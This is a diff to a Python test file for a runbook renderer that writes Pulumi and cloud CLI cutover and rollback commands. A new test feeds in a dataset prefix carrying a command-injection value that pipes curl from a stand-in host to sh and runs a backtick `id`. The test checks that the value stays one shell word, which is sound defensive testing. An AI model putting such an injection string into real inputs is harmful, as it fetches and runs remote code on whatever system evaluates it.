@@ -8,7 +8,7 @@ from typing import Any
 
 import yaml
 
-from lz.review.runbook import render_runbook, step_command
+from lz.review.runbook import render_runbook, rollback_all_command, step_command
 from lz.spec import load_landing_zone
 from lz.spec.wave import load_wave
 from tests.helpers import ROOT, example_spec
@@ -49,7 +49,7 @@ def test_every_canary_step_has_its_command_its_rollback_and_its_thresholds() -> 
         block = re.search(rf"### Step {step}: {target} % to the target.*?(?=^### |\Z)", cutover, re.S | re.M)
         assert block, step
         body = block.group(0)
-        assert (f"pulumi config set --path 'landing-zone:wave.cutover.current_step' {step} --stack wave-1-dev "
+        assert (f"pulumi config set --path landing-zone:wave.cutover.current_step {step} --stack wave-1-dev "
                 "&& pulumi up --stack wave-1-dev") in body
         assert "at most 1.00%" in body and "at most 800 ms" in body and "10 minutes" in body
         if step:
@@ -65,7 +65,8 @@ def test_every_canary_step_has_its_command_its_rollback_and_its_thresholds() -> 
 def test_rollback_everything_and_where_the_metrics_come_from() -> None:
     cutover = section(render(), "5. Cutover")
     assert "### Roll back everything" in cutover
-    assert step_command(0, STACK) in cutover.split("### Roll back everything", 1)[1]
+    assert rollback_all_command(STACK) in cutover.split("### Roll back everything", 1)[1]
+    assert "wave.cutover.rolled_back true" in rollback_all_command(STACK)
     assert "acme-dev-wave-1-rollback-error-rate" in cutover and "acme-dev-wave-1-rollback-p99-latency" in cutover
     assert "LandingZone/Migration" in cutover and "awsemf" in cutover
     assert "aws cloudwatch describe-alarms --region eu-west-1" in cutover
@@ -130,3 +131,22 @@ def test_datasets_only_wave_has_no_cutover_sections() -> None:
 def test_deterministic() -> None:
     assert render() == render()
     assert "\n\n\n" not in render()
+
+
+def test_user_text_in_commands_stays_one_shell_word() -> None:
+    """A prefix like `datasets/$(curl ...|sh)/` is an argument, never a command."""
+    import shlex
+
+    raw = raw_wave()
+    hostile = "datasets/$(curl -s https://e.vil/x|sh)/it's `id`/"
+    for d in raw["datasets"]:
+        d["source"]["prefix"] = hostile
+    text = render(raw)
+    commands = [line.strip() for line in text.splitlines()
+                if "curl" in line and line.strip().startswith(("aws ", "gcloud ", "az "))]
+    assert len(commands) >= 4
+    for command in commands:
+        words = shlex.split(command.split(" | ")[0].split("  #")[0])
+        assert any(hostile in w for w in words), command  # the whole prefix survives inside one word
+    table = [line for line in text.splitlines() if line.startswith("| 1 | dataset")][0]
+    assert "`id`" not in table  # user text cannot close a code span in the Markdown either
